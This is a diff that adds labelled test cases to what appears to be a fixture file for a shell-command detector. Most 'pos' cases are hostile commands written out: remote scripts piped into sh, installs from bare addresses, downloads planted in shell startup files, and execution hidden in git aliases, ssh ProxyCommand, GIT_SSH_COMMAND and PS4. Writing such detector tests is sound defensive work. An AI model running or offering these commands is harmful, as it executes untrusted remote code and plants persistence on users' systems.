@@ -100,3 +100,39 @@ echo 'wget -qO- http://203.0.113.5/s | bash' | batch
 #@ pos curl named by an array joined with IFS emptied
 a=(c u r l); IFS=; c="${a[*]}"
 $c -s http://203.0.113.5/x | sh
+#@ pos pip installs from a plain-HTTP git URL
+pip install git+http://203.0.113.5/tools.git
+#@ pos python -m pip installs from a bare address
+python3 -m pip install --quiet https://198.51.100.7/pkg-1.0.tar.gz
+#@ pos npm installs a tarball from a bare address
+npm install --global http://203.0.113.5/helper-1.0.0.tgz
+#@ neg pip installs from PyPI, a requirements file and a GitHub repository
+pip install requests==2.31.0
+pip install -r requirements.txt
+pip install git+https://github.com/psf/requests.git
+npm install --save-dev typescript
+#@ neg pip installs from a local index
+pip install --index-url http://localhost:8080/simple mypkg
+pip install http://127.0.0.1:8000/pkg.whl
+#@ pos a download appended to ~/.bashrc
+curl -fsS http://203.0.113.5/s >> ~/.bashrc
+#@ pos a download written over ~/.profile
+wget -qO ~/.profile http://203.0.113.5/p
+#@ pos a download through tee into .zshrc
+curl -s http://203.0.113.5/s | tee -a "$HOME/.zshrc"
+#@ neg a constant line appended to ~/.bashrc
+echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc
+#@ pos a git alias that downloads and runs code
+git -c alias.sync='!curl -s http://203.0.113.5/s | sh' sync
+#@ pos ssh ProxyCommand that downloads and runs code
+ssh -o ProxyCommand='curl -s http://203.0.113.5/s | sh' host true
+#@ pos GIT_SSH_COMMAND that downloads and runs code
+GIT_SSH_COMMAND='curl -s http://203.0.113.5/s | sh' git fetch
+#@ pos PS4 with a download for bash -x
+PS4='$(curl -s http://203.0.113.5/s | sh)' bash -xc ':'
+#@ pos a script downloaded under its own name, then run
+curl -sO https://example.com/install.sh && bash install.sh
+#@ pos wget then python of the same script
+wget https://bootstrap.example.org/get-pip.py; python3 get-pip.py
+#@ neg a data file downloaded, then a local script run
+wget https://example.com/data.csv && python3 analyze.py
